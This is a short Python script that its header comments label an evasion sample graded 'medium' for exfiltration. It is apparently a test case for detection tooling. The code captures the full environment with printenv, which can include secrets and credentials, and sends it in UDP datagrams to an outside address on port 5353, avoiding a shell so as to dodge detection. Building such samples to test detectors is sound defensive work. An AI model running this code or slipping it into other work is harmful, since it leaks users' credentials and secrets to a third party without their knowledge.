# evasion: the environment is read by a printenv child (list args, no shell) and leaves in UDP datagrams
# grade: medium; does: exfil
import socket
import subprocess

dump = subprocess.check_output(["printenv"])
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for off in range(0, len(dump), 512):
    sock.sendto(dump[off:off + 512], ("203.0.113.65", 5353))
sock.close()
